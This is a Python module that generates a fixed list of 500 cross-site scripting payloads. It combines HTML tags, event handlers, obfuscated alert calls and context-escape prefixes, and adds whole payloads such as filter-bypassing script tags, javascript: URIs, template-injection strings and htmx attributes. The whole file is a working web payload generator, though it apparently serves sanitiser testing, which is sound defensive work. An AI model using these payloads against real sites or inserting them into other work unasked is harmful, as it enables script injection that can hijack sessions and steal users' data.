"""Five hundred ways to make a page run what a customer typed; each would call `alert`."""

from __future__ import annotations

from itertools import product

TAGS = ("img", "svg", "body", "input", "details", "video", "audio", "iframe", "object", "marquee")
HANDLERS = (
    "src=x onerror={call}", "onload={call}", "autofocus onfocus={call}", "open ontoggle={call}",
    "onmouseover={call}", "onanimationstart={call}",
)  # fmt: skip
CALLS = ("alert(1)", "alert`1`", "window['al'+'ert'](1)", "&#97;lert(1)")
ESCAPES = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "--> {}", "]]>{}", "\\u003c{}")
WHOLE = (
    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt src=data:,alert(1)></sCrIpT>", "<svg><script>alert(1)</script></svg>",
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "jav&#x09;ascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "<base href=//example.invalid/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<link rel=import href=//x>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "{%raw%}<script>alert(1)</script>",
    "<div hx-get=/x hx-trigger=load>x</div>", "<div hx-on:load=alert(1)>x</div>",
    "<math><mi xlink:href=javascript:alert(1)>x", "<style>@import'//x';</style>",
    "<template><script>alert(1)</script></template>", "\u2028<script>alert(1)</script>",
)  # fmt: skip


def payloads(number: int = 500) -> list[str]:
    """So many different ones; the same each time."""
    made = list(WHOLE)
    for tag, handler, call, escape in product(TAGS, HANDLERS, CALLS, ESCAPES):
        made.append(escape.format(f"<{tag} {handler.format(call=call)}>"))
    step = len(made) // (number - len(WHOLE))
    return [*WHOLE, *made[len(WHOLE) :: step]][:number]
